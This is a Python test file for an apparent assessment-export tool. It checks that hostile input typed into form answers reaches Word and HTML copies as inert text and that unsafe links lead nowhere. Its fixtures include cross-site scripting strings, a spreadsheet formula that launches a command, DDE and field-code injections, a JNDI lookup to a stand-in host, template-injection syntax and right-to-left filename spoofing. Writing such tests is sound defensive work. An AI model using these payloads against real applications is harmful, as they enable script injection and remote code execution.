"""Answers on a hostile day: whatever was typed or pasted, each kind of copy says it as words, and nothing else."""

import functools
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

from ehia_desktop.assessment.answer import Answer
from ehia_desktop.assessment.publication import CopyFormat, CopyKind
from ehia_desktop.forms.fields import LongText
from ehia_desktop.forms.questions import places
from ehia_desktop.forms.richtext import BulletList, Paragraph, Span, from_plain
from ehia_desktop.forms.values import Choice, Person, RichText, RowOrder, Text, Value
from tests.export import packs
from tests.export.copies import DOCUMENT, ROOM, changed, parts_of, saved
from tests.export.forms import assessment, request
from tests.export.inspections import ASKED, pack, told
from tests.export.opened import Region, in_page, in_word
from tests.export.shipped import shipped_example

HOSTILE = {
    "control characters": "before\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x9f after",
    "lone surrogates": "before \ud800 and \udfff after",
    "an order turned round": "invoice \u202egnp.exe\u202c and \u2066inside\u2069",
    "signs without width": "a\u200bb\u200cc\u200dd\ufeffe \ufffe\uffff",
    "marks that pile up": "H" + "\u0301\u0323\u0330" * 40 + "ello",
    "signs beyond the basic plane": "👩🏽‍🦽 𐍈 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "letters from right to left": "שלום مرحبا بالعالم 12",
    "a web page": '<p style="color:red">Hello <b>all</b><script>alert(1)</script><img src=x onerror=alert(1)></p>',
    "a page that ends": "</body></html><!-- --> ]]> <![CDATA[ x ]]> <?xml version='1.0'?>",
    "entities": "&amp; &lt; &#0; &#x1F600; &nbsp; &unknown;",
    "a formula": "=cmd|' /C calc'!A0",
    "formulas of other kinds": '+1+1 -2 @SUM(A1) =HYPERLINK("http://x.example","x")',
    "a field": '{ HYPERLINK "file:///c:/x" } { INCLUDETEXT "\\\\\\\\server\\\\x" } { PAGE }',
    "a field as XML": '<w:fldSimple w:instr=" DDEAUTO c:\\\\x "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    "a template": "{{ 7*7 }} {% for x in y %} ${jndi:ldap://x.example} <%= 1 %>",
    "a style sheet": "</style><style>*{display:none}</style> expression(alert(1))",
    "marks of ours": "_EHIA_END _EHIA_Qplain w:bookmarkStart #document",
    "line ends of every kind": "one\r\ntwo\rthree\x85four\u2028five\u2029six\x0bseven",
    "tabs and wide spaces": "a\tb\t\tc   d\u00a0e\u3000f",
    "one long word": "x" * 4_000,
    "commas and quotes": "\"a\",'b';`c` “d” ‘e’ \\ | ~ ^ % $HOME %PATH%",
}
# What a reader must see of each, line by line, written by hand: signs that no document may hold are gone (controls,
# marks that turn the order round, what is no character), half a sign is U+FFFD, every kind of line end is a line
# end, and accents stand as Unicode's NFC puts them (first those below, then those above). All else is there.
SEEN = {
    "control characters": "before\n[31m after",
    "lone surrogates": "before \ufffd and \ufffd after",
    "an order turned round": "invoice gnp.exe and inside",
    "signs without width": "a\u200bb\u200cc\u200dde",
    "marks that pile up": "\u1e24\u0330" + "\u0323\u0330" * 39 + "\u0301" * 40 + "ello",
    "line ends of every kind": "one\ntwo\nthree\nfour\nfive\nsix\nseven",
}
AS_TYPED = set(HOSTILE) - set(SEEN)
KINDS = [CopyKind.PUBLICATION, CopyKind.INTERNAL, CopyKind.REVIEW, CopyKind.BLANK]


def answers(words: str) -> dict[str, Value | None]:
    """The words wherever a person may write, as a sentence, a list, a link’s words, a reason, a name, a row’s name."""
    return {
        "plain": RichText((Paragraph((Span(words), Span(words, bold=True))),)),
        "proposal_name": RichText((Paragraph((Span(words, italic=True),)),)),
        "team": Text(words),
        "change": Choice("old", words),
        "lead": Person(words, words, "", ""),
        "groups": RowOrder(("local_1",)),
        "groups/local_1/row_label": Text(words),
        "groups/age/effect": RichText(
            (BulletList(((Span(words),), (Span("other"),))), BulletList(((Span(words),),), ordered=True))
        ),
    }  # fmt: skip


ALL = " ".join(HOSTILE.values())


def seen(name: str) -> str:
    """What a reader must see of a hostile text."""
    return HOSTILE[name] if name in AS_TYPED else SEEN[name]


# Between two texts stands a space; what ends in nothing visible loses the space before it to the line.
ALL_SEEN = " ".join(seen(name) for name in HOSTILE)


def squeezed(words: str) -> str:
    """Words without the places where lines end and spaces run on: how a table or a title folds them."""
    return " ".join(words.split())


def lines_of(words: str) -> list[str]:
    """Lines without blank ones and without white space at their ends."""
    return [line.strip() for line in words.split("\n") if line.strip()]


def under(regions: Sequence[Region], heading: str) -> Region:
    (found,) = [region for region in regions if region.heading.endswith(heading)]
    return found


@pytest.mark.parametrize("ending", list(CopyFormat))
@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_copy_says_it_as_words_and_nothing_else(name: str, ending: CopyFormat) -> None:
    asked = replace(request(), format=ending)
    content = ROOM.write(assessment(answers(HOSTILE[name])), (), asked).content
    regions = in_word(content) if ending is CopyFormat.WORD else in_page(content)
    lines = lines_of(seen(name))

    assert lines_of("\n".join(under(regions, ". Name of the proposal").lines)) == lines
    # The whole question stands under its short label.
    assert lines_of("\n".join(under(regions, "Team").lines))[1:] == lines
    chosen = lines_of("\n".join(under(regions, "What kind of change is it?").lines))
    assert chosen == lines_of(f"A revised policy. {seen(name)}")
    (groups,) = under(regions, "Impact on groups").tables
    assert [squeezed(row[0]) for row in groups[1:]] == [
        "Age", "Gender reassignment", squeezed(seen(name)),
    ]  # fmt: skip
    assert lines_of(groups[1][1]) == [*lines, "other", *lines]
    if ending is CopyFormat.WORD:
        assert shape(content) == harmless()


def shape(content: bytes) -> tuple[int, int, int, int]:
    """How many fields, links and drawings a document has, and how many parts a file."""
    tree = etree.fromstring(parts_of(content)[DOCUMENT])
    tags = [etree.QName(element).localname for element in tree.iter("{*}*")]
    fields = tags.count("fldChar") + tags.count("fldSimple")
    return fields, tags.count("hyperlink"), tags.count("drawing"), len(parts_of(content))


@functools.cache
def harmless() -> tuple[int, int, int, int]:
    """The shape of the same copy where nobody meant any harm."""
    return shape(ROOM.write(assessment(answers("harmless")), (), request()).content)


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_of_copy_takes_all_of_it_and_passes_every_check(
    tmp_path: Path, kind: CopyKind
) -> None:
    subject = assessment(answers(ALL))
    written = ROOM.write(subject, (), request(kind))

    assert ROOM.check(saved(tmp_path, written.content), subject, written, request(kind)) == ()


@pytest.mark.parametrize("ending", list(CopyFormat))
@pytest.mark.parametrize("kind", [CopyKind.SUMMARY, CopyKind.BOARD_PACK])
def test_every_part_of_it_takes_all_of_it_and_passes_every_check(
    tmp_path: Path, kind: CopyKind, ending: CopyFormat
) -> None:
    subject = replace(assessment(answers(ALL)), title=ALL[:2_000])
    bars = packs.with_gap(packs.with_chart(packs.by_group(ALL, (ALL, "other", "third"), "tables")))
    table = replace(bars, link=replace(bars.link, caption=ALL, finding=ALL))
    asked = packs.asked(kind, format=ending, organisation=ALL, still_due=packs.due(2, ALL, ALL))
    written = ROOM.write(subject, (table,), asked)

    assert (
        ROOM.check(saved(tmp_path, written.content, f"part.{ending}"), subject, written, asked)
        == ()
    )


@pytest.mark.parametrize("ending", list(CopyFormat))
def test_a_copy_about_one_group_takes_all_of_it_and_passes_every_check(
    tmp_path: Path, ending: CopyFormat
) -> None:
    subject = shipped_example("nhs-ehia-2022")
    said = Answer(RichText(from_plain(ALL)), "", "1.0.0", "Ann", "2026-11-22T10:00:00Z")
    hostile = {
        place.address: said
        for place in places(subject.asked())
        if place.address.row in ("age", "disability") and isinstance(place.question, LongText)
    }
    subject = replace(subject, answers={**subject.answers, **hostile})
    asked = packs.asked(CopyKind.GROUP, format=ending, organisation=ALL, group="age")
    written = ROOM.write(subject, (), asked)

    regions = in_word(written.content) if ending is CopyFormat.WORD else in_page(written.content)
    found = squeezed("\n".join(region.words for region in regions))
    assert found.count(squeezed(ALL_SEEN)) >= len([at for at in hostile if at.row == "age"]) > 0
    assert (
        ROOM.check(saved(tmp_path, written.content, f"part.{ending}"), subject, written, asked)
        == ()
    )


@pytest.mark.parametrize("ending", list(CopyFormat))
def test_an_evidence_pack_takes_all_of_it_and_says_it(tmp_path: Path, ending: CopyFormat) -> None:
    asked = replace(ASKED, format=ending)
    made = pack(told(ALL, assessment(answers(ALL))))
    written = ROOM.write_pack(made, asked)
    path = saved(tmp_path, written.content, f"pack.{ending}")

    assert ROOM.check_pack(path, made, written, asked) == ()
    regions = in_word(written.content) if ending is CopyFormat.WORD else in_page(written.content)
    found = squeezed("\n".join(region.words for region in regions))
    # Its title, two comments, what came of one, who decided and what the decision changed.
    assert found.count(squeezed(ALL_SEEN)) >= 4


def test_a_page_takes_all_of_it_and_passes_every_check(tmp_path: Path) -> None:
    subject = assessment(answers(ALL))
    asked = replace(request(), format=CopyFormat.HTML)
    written = ROOM.write(subject, (), asked)
    path = saved(tmp_path, written.content, "page.html")

    assert ROOM.check(path, subject, written, asked) == ()
    assert b"<script" not in written.content.lower()
    assert b"<img" not in written.content.lower()


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "file:///c:/windows", "\\\\server\\share", "data:text/html,x",
        "vbscript:x", "ms-word:ofe|u|https://x.example/a.docx", "https://x.example/\nfile:///c:", " ", "//x.example",
    ],
)  # fmt: skip
def test_a_link_that_is_not_safe_keeps_its_words_and_leads_nowhere(target: str) -> None:
    unsafe = RichText((Paragraph((Span("the file", link=target),)),))
    subject = assessment({"proposal_name": unsafe})
    word = parts_of(ROOM.write(subject, (), request()).content)
    page = ROOM.write(subject, (), replace(request(), format=CopyFormat.HTML)).content

    assert b"the file" in word[DOCUMENT]
    assert b"the file" in page
    for scheme in (b"script:", b"file:", b"data:", b"ms-word:", b"server"):
        assert scheme not in word["word/_rels/document.xml.rels"].lower()
        assert b'href="' + scheme not in page.lower()


def test_an_answer_the_store_did_not_clean_is_still_found_where_it_may_not_stand(
    tmp_path: Path,
) -> None:
    secret = "The front desk was \u202eclosed\u202c on Fridays."
    subject = assessment({"worry": RichText((Paragraph((Span(secret),)),))})
    written = ROOM.write(subject, (), request())
    leaked = changed(
        written.content, "Overseas visitors team", "The front desk was closed on Fridays."
    )

    found = ROOM.check(saved(tmp_path, leaked), subject, written, request())

    assert any("Words of the internal answer at “worry”" in sentence for sentence in found)


@pytest.mark.slow
@pytest.mark.parametrize("kind", [CopyKind.PUBLICATION, CopyKind.BLANK])
def test_a_hundred_thousand_signs_and_a_thousand_rows(tmp_path: Path, kind: CopyKind) -> None:
    rows = [f"r{number}" for number in range(1_000)]
    long = RichText(tuple(Paragraph((Span("word " * 400),)) for _ in range(50)))
    given: dict[str, Value | None] = {"proposal_name": long, "issues": RowOrder(tuple(rows))}
    given |= {
        f"issues/{row}/issue": RichText((Paragraph((Span(f"Issue {row}"),)),)) for row in rows
    }
    subject = assessment(given)
    written = ROOM.write(subject, (), request(kind))

    assert ROOM.check(saved(tmp_path, written.content), subject, written, request(kind)) == ()
